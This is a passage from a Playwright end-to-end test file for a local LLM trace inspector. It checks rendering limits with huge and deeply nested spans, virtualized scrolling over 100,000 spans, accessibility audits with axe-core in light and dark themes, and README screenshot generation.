        Array.from({ length: 3_000 }, (_, index) => [`key ${index}`, 'v'.repeat(50)]),
      )
      await send(
        {
          trace: 'a',
          name: 'deep',
          attributes: { 'langfuse.observation.input': deep, 'langfuse.observation.metadata': deep },
        },
        { trace: 'b', name: 'wide', attributes },
        {
          trace: 'c',
          name: 'long',
          attributes: { 'langfuse.observation.output': 'no spaces '.repeat(300_000) },
        },
      )
      await postJson(
        `${inspector.url}/v1/traces`,
        jsonExport([
          {
            ...jsonSpan({ trace: 'd', name: 'timeless' }),
            startTimeUnixNano: '0',
            endTimeUnixNano: '18446744073709551615',
          },
          {
            ...jsonSpan({ trace: 'd', id: '2', parent: '1' }),
            startTimeUnixNano: '18446744073709551615',
            endTimeUnixNano: '0',
          },
        ]),
      )
      const chain = Array.from({ length: 5_000 }, (_, index) => ({
        trace: 'e',
        id: (index + 1).toString(16),
        name: `level ${index}`,
        ...(index > 0 && { parent: index.toString(16) }),
      }))
      await send(...chain)
      const page = await open('/')
      await rows(page).nth(4).waitFor()
      for (const trace of ['a', 'b', 'c', 'd', 'e']) {
        await page.goto(`${inspector.url}/traces/${traceId(trace)}`)
        await page.locator('.detail .facts').waitFor()
        for (const button of await page.locator('.choice').getByRole('button', { name: 'raw' }).all())
          await button.click()
        await page.locator('details.more summary').first().click()
        expect(Number(await page.evaluate('document.querySelectorAll("*").length'))).toBeLessThan(3_000)
      }
      await page.goto(`${inspector.url}/traces/${traceId('a')}`)
      await page.getByLabel('Search in this value').first().waitFor({ state: 'detached' })
      expect(inspector.traces()).toHaveLength(5)
    })
  })

  it('holds 100,000 spans, of which only those in sight exist', async () => {
    const traces = 16_000
    const perRequest = 2_000
    for (let first = 0; first < traces; first += perRequest) {
      const spans = Array.from({ length: perRequest * 5 }, (_, index) => {
        const number = first + Math.floor(index / 5)
        const id = index % 5
        return jsonSpan({
          trace: (number + 1).toString(16),
          id: String(id + 1),
          ...(id > 0 && { parent: '1' }),
          name: id === 0 ? `request ${number}` : `step ${id}`,
          startMs: number * 10 + id,
        })
      })
      await postJson(`${inspector.url}/v1/traces`, jsonExport(spans))
    }
    const chain = Array.from({ length: 20_000 }, (_, index) =>
      jsonSpan({
        trace: 'fffff',
        id: (index + 1).toString(16),
        ...(index > 0 && { parent: (1 + Math.floor((index - 1) / 100)).toString(16) }),
        name: `observation ${index}`,
        startMs: 1_000_000 + index,
      }),
    )
    await postJson(`${inspector.url}/v1/traces`, jsonExport(chain))
    expect(inspector.stats().spans).toBe(100_000)

    const page = await open('/')
    await page.locator('.foot').getByText('16,001 traces').waitFor()
    const list = page.getByRole('grid', { name: 'Traces' })
    const scrollTo = (part: number): Promise<unknown> =>
      page.evaluate(
        `{ const list = document.querySelector('.rows'); list.scrollTop = list.scrollHeight * ${part} }`,
      )
    for (const part of [0.1, 0.5, 0.9, 0.25]) {
      await scrollTo(part)
      const number = Math.floor(16_001 * (1 - part))
      await page
        .getByText(new RegExp(`^request ${String(number).slice(0, -2)}\\d\\d$`))
        .first()
        .waitFor()
      expect(await rows(page).count()).toBeLessThan(60)
    }
    await scrollTo(1)
    await page.getByText('request 0', { exact: true }).waitFor()
    expect(await list.getAttribute('aria-rowcount')).toBe('16002')

    // What one looks at stays in place while requests come in above.
    await scrollTo(0.5)
    await page
      .getByText(/^request 80\d\d$/)
      .first()
      .waitFor()
    const middle = await rows(page).nth(20).locator('.name a').textContent()
    const placeOf = async (): Promise<number | undefined> =>
      (await rows(page).filter({ hasText: middle! }).boundingBox())?.y
    const place = await placeOf()
    await send({ trace: 'eeeee', name: 'the latest', startMs: 9_000_000 })
    await page.locator('.foot').getByText('16,002 traces').waitFor()
    expect(await placeOf()).toBe(place)

    await page.goto(`${inspector.url}/traces/${traceId('fffff')}`)
    const tree = page.getByRole('treegrid', { name: 'Observations' })
    await rows(page).nth(10).waitFor()
    expect(await tree.getAttribute('aria-rowcount')).toBe('20001')
    await tree.focus()
    await page.keyboard.press('End')
    await page
      .locator('.detail')
      .getByRole('heading', { name: /observation \d+/ })
      .waitFor()
    expect(await rows(page).count()).toBeLessThan(60)
    expect(Number(await page.evaluate('document.querySelectorAll("*").length'))).toBeLessThan(1_500)
  })

  describe.each([
    ['wide and light', { width: 1280, height: 800 }, 'light'],
    ['wide and dark', { width: 1280, height: 800 }, 'dark'],
    ['400 pixels and light', { width: 400, height: 780 }, 'light'],
    ['400 pixels and dark', { width: 400, height: 780 }, 'dark'],
  ] as const)('%s', (_, viewport, colorScheme) => {
    it('can be read by everybody, and nothing sticks out', async () => {
      const failed = chatTrace(3)
      const id = traceId(failed[0]!.trace!)
      const other = traceId(chatTrace(1)[0]!.trace!)
      const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8')
      const page = await open('/', { viewport, colorScheme, bypassCSP: true })
      const check = async (what: string): Promise<void> => {
        await page.evaluate(axe)
        const { violations } = (await page.evaluate(
          'axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] })',
        )) as { violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] }
        const found = violations.map(({ id, nodes }) => [
          id,
          nodes.map(node => `${node.html} ${node.failureSummary}`),
        ])
        expect([what, found]).toEqual([what, []])
        expect([what, await page.evaluate('document.documentElement.scrollWidth')]).toEqual([
          what,
          viewport.width,
        ])
      }
      await page.getByRole('heading', { name: 'Waiting' }).waitFor()
      await check('invitation')
      await postJson(`${inspector.url}/v1/traces`, chatExport(40))
      await postJson(`${inspector.url}/api/public/scores`, { traceId: id, name: 'helpful', value: 0 })
      await rows(page).nth(10).waitFor()
      await page.keyboard.press('j')
      await page.getByRole('button', { name: 'Filter' }).click()
      await check('list')
      await page.keyboard.press('?')
      await page.getByRole('dialog').waitFor()
      await check('help')
      for (const path of [
        '/sessions',
        '/sessions/s-ada-0',
        '/users/ada',
        '/sessions/none',
        '/overview',
        '/nowhere',
        `/playground/${other}/0000000000000006`,
        `/traces/${'9'.repeat(32)}`,
      ]) {
        await page.goto(inspector.url + path)
        await page.locator('main h1').waitFor({ state: 'attached' })
        await check(path)
      }
      await page.goto(`${inspector.url}/traces/${id}`)
      for (const form of ['Score', 'Add to dataset', 'Replay request']) {
        await page.getByRole('button', { name: form, exact: true }).click()
        await page.locator('.trace-form').waitFor()
        await check(form)
      }
      await page.goto(`${inspector.url}/compare/${id}/${other}`)
      await page.locator('.compare-detail .payload').first().waitFor()
      await check('comparison')
      for (const trace of [id, other]) {
        await page.goto(`${inspector.url}/traces/${trace}?o=0000000000000006`)
        await page.locator('.detail .payload').first().waitFor()
        await page.locator('details.more summary').first().click()
        await page.locator('details.more .json').first().waitFor()
        await check(`trace ${trace}`)
      }
      problems = problems.filter(problem => !problem.includes('status of 404'))
    })
  })

  it.each(['light', 'dark'] as const)('looks like its %s pictures in the README', async colorScheme => {
    await postJson(`${inspector.url}/v1/traces`, chatExport(48))
    const id = traceId(chatTrace(46)[0]!.trace!)
    await postJson(`${inspector.url}/api/public/scores`, { traceId: id, name: 'helpful', value: 1 })
    const picture = async (name: string, path: string, shown: string): Promise<void> => {
      const page = await open(path, {
        viewport: { width: 1280, height: 760 },
        colorScheme,
        reducedMotion: 'reduce',
      })
      await page.locator(shown).first().waitFor()
      const bytes = await page.screenshot()
      expect(bytes.length).toBeLessThan(250_000)
      const file = join(__dirname, '..', 'screenshots', `${name}-${colorScheme}.png`)
      if (process.env.UPDATE_SCREENSHOTS) writeFileSync(file, bytes)
    }
    await picture('trace', `/traces/${id}?o=0000000000000006`, '.detail .chat')
    await picture('overview', '/overview', '.chart canvas')
  })
})

/** Waits until an expression is true in the page, whose policy forbids the evaluation that Playwright's own waiting does. */
async function holds(page: Page, expression: string): Promise<void> {
  while (!(await page.evaluate(expression))) await page.waitForTimeout(20)
}
